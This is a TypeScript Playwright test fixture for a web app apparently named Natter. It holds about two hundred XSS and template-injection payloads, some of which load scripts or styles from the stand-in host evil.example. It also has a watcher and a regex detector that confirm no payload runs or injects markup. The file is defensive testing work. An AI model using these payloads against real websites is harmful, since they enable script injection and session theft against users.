/// What people type who want a page to run it, and a watch over pages that notices if one did.
import type { Page } from '@playwright/test';

import { expect, test as base } from './test.ts';

/** Where the attacks try to send somebody, or to fetch something from. */
export const EVIL = 'evil.example';

/** What is put before an element, so that it gets out of wherever the text was written into. */
const WAYS_OUT = ['', '">', "' x='>", '--></script></style></title></textarea>'];

/** Each of them sets `hacked` where it is taken for markup. */
const ELEMENTS = [
  '<script>hacked=1</script>',
  '<ScRiPt\n>hacked=1</sCrIpT >',
  '<script src=//evil.example/x.js></script>',
  '<script type=module>import("//evil.example/x.js")</script>',
  '<img src=x onerror=hacked=1>',
  '<img/src=x/onerror=hacked=1//',
  '<img src=x onerror="alert(1);hacked=1">',
  '<image src=x onerror=hacked=1>',
  '<svg onload=hacked=1>',
  '<svg/onload=hacked=1>',
  '<svg><script>hacked=1</script></svg>',
  '<svg><animate onbegin=hacked=1 attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:hacked=1"><text y=9>here</text></a></svg>',
  '<svg><foreignObject><iframe onload=hacked=1></iframe></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><img src onerror=hacked=1>',
  '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
  '<iframe src="javascript:parent.hacked=1"></iframe>',
  '<object data="javascript:hacked=1"></object>',
  '<embed src="javascript:hacked=1">',
  '<a href="javascript:hacked=1">here</a>',
  '<a href="java&#9;script:hacked=1">here</a>',
  '<a href="data:text/html,<script>opener.hacked=1</script>" target=_blank>here</a>',
  '<form action="javascript:hacked=1"><button>here</button></form>',
  '<button formaction="javascript:hacked=1">here</button>',
  '<input autofocus onfocus=hacked=1>',
  '<select autofocus onfocus=hacked=1></select>',
  '<details open ontoggle=hacked=1>',
  '<video><source onerror=hacked=1></video>',
  '<audio src=x onerror=hacked=1></audio>',
  '<body onload=hacked=1 onpageshow=hacked=1>',
  '<marquee onstart=hacked=1>here</marquee>',
  '<base href="//evil.example/">',
  '<meta http-equiv=refresh content="0;url=//evil.example/">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import "//evil.example/x.css";*{background:url(//evil.example/x)}</style>',
  '<div style="width:expression(hacked=1);background:url(//evil.example/x)">here</div>',
  '<b style="position:fixed;inset:0" onmouseover=hacked=1>here</b>',
  '<xss style="animation:x 1s" onanimationstart=hacked=1 tabindex=0 autofocus onfocus=hacked=1>',
  '<template><script>hacked=1</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=hacked=1>">',
];

/** What is an attack somewhere else than among elements, or in some disguise. */
const WORDS = [
  'javascript:hacked=1',
  'JaVaScRiPt://%0ahacked=1',
  'java\tscript:hacked=1',
  'vbscript:hacked=1',
  'data:text/html;base64,PHNjcmlwdD5oYWNrZWQ9MTwvc2NyaXB0Pg==',
  '//evil.example/x',
  '{{7*7}}',
  '${7*7}',
  '#{7*7}',
  '<%= 7*7 %>',
  "{{constructor.constructor('hacked=1')()}}",
  '${hacked=1}',
  '`${hacked=1}`',
  "';hacked=1;//",
  '";hacked=1;//',
  String.raw`\";hacked=1;//`,
  String.raw`\u003cscript\u003ehacked=1\u003c/script\u003e`,
  String.raw`\x3cscript\x3ehacked=1\x3c/script\x3e`,
  '&lt;script&gt;hacked=1&lt;/script&gt;',
  '&#60;img src=x onerror=hacked=1&#62;',
  '&#x3c;img src=x onerror=hacked=1&#x3e',
  '&amp;lt;b&amp;gt;&nbsp;&copy',
  '%3Cscript%3Ehacked=1%3C/script%3E',
  '+ADw-script+AD4-hacked=1+ADw-/script+AD4-',
  '<!--<img src="--><img src=x onerror=hacked=1//">',
  '<![CDATA[<script>hacked=1</script>]]>',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y "<script>hacked=1</script>">]><x>&y;</x>',
  '<scr<script>ipt>hacked=1</scr</script>ipt>',
  '<<script>hacked=1//<</script>',
  `<img src='x' title="'" onerror="hacked='"'"'1'">`,
  `"'"'"><img src=x onerror=hacked=1>`,
  '\u202e>tpircs/<1=dekcah>tpircs<\u202c',
  '\u2067<img src=x onerror=hacked=1>\u2069',
  '<scr\u200bipt>hacked=1</scr\u200bipt>',
  '＜script＞hacked=1＜/script＞',
  '[here](javascript:hacked=1) ![x](x"onerror="hacked=1)',
  'onerror=hacked=1 expression(hacked=1) url(javascript:hacked=1)',
  '__proto__ constructor [object Object]',
  '@import "//evil.example/x.css"; } * { background: url(//evil.example/x) } {',
  '\u2028hacked=1\u2029hacked=1',
];

/** Two hundred texts, all different. */
export const ATTACKS = [...WAYS_OUT.flatMap((wayOut) => ELEMENTS.map((element) => wayOut + element)), ...WORDS];

/** Those that are short enough to be somebody's name: at most 80 characters that can be seen, on one line. */
export const NAMES = [
  '<script>hacked=1</script>',
  '"><img src=x onerror=hacked=1>',
  "'><svg/onload=hacked=1>",
  '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
  '<a href="javascript:hacked=1">here</a>',
  '</title></style></textarea><details open ontoggle=hacked=1>',
  '{{7*7}}${7*7}`${hacked=1}`',
  '&lt;b&gt;&#60;i&#62;&amp;',
];

/** A watch over one page, from its first document on. */
export class Watch {
  /** What asked or said something in a dialog. */
  readonly dialogs: string[] = [];
  /** What was asked of somewhere else. */
  readonly errands: string[] = [];

  private constructor(readonly page: Page) {
    page.on('dialog', (dialog) => {
      this.dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    page.on('popup', (popup) => this.errands.push(popup.url()));
    page.on('request', (request) => {
      if (new URL(request.url()).hostname === EVIL) this.errands.push(request.url());
    });
  }

  static async over(page: Page): Promise<Watch> {
    const watch = new Watch(page);
    await page.addInitScript(() => {
      const found: string[] = [];
      let hacked: unknown;
      Object.assign(window, { natterViolations: found });
      Object.defineProperty(window, 'hacked', {
        get: () => hacked,
        set: (value: unknown) => {
          hacked = value;
          // The console outlives the document, and every test looks there for such words.
          console.error('Refused to believe it: what somebody typed has run');
        },
      });
      // Browsers say it in the console as well.
      addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) => {
        found.push(`${violatedDirective} ${blockedURI}`);
      });
    });
    return watch;
  }

  /** What the page's policy had to stop in this document. */
  violations(): Promise<string[]> {
    return this.page.evaluate(() => (window as unknown as { natterViolations: string[] }).natterViolations);
  }

  /** The marker that every attack sets. */
  marker(): Promise<unknown> {
    return this.page.evaluate(() => (window as unknown as { hacked: unknown }).hacked);
  }

  /** The elements of the page that are none of Natter's. */
  strangers(): Promise<string[]> {
    return this.page.evaluate(() => {
      const names =
        'applet|audio|base|details|embed|foreignobject|frame|iframe|image|isindex|marquee|math|object|source|template|video|xss';
      const isStrange = (element: Element) =>
        new RegExp(`^(${names})$`, 'i').test(element.localName) ||
        (/^(script|style)$/.test(element.localName) && (element as HTMLScriptElement).nonce === '') ||
        [...element.attributes].some(
          ({ name, value }) =>
            /^(on.*|srcdoc|http-equiv|formaction)$/i.test(name) ||
            (/^(href|src|action|data|xlink:href|style|content)$/i.test(name) &&
              /script:|data:text|evil\.example|hacked|expression/i.test(value)),
        );
      return [...document.querySelectorAll('*')].filter(isStrange).map((element) => element.outerHTML);
    });
  }

  /** Checks that nothing of what was typed has become anything but text, and that nothing has run. */
  async sawNothing(): Promise<void> {
    expect(await this.strangers(), 'elements of an attack').toEqual([]);
    expect(await this.marker(), 'the marker of the attacks').toBeUndefined();
    expect(await this.violations(), 'what the policy of the page had to stop').toEqual([]);
    expect(this.dialogs, 'dialogs').toEqual([]);
    expect(this.errands, 'requests to elsewhere').toEqual([]);
  }
}

interface Fixtures {
  /** The watches over all pages that were opened. */
  watches: Watch[];
}

/** Stories in which every page is watched, and at the end of which nothing may have happened in any. */
export const test = base.extend<Fixtures>({
  watches: async ({}, use) => {
    await use([]);
  },

  openPage: async ({ openPage, watches }, use) => {
    await use(async (options) => {
      const page = await openPage(options);
      watches.push(await Watch.over(page));
      return page;
    });
    for (const watch of watches) await watch.sawNothing();
  },
});
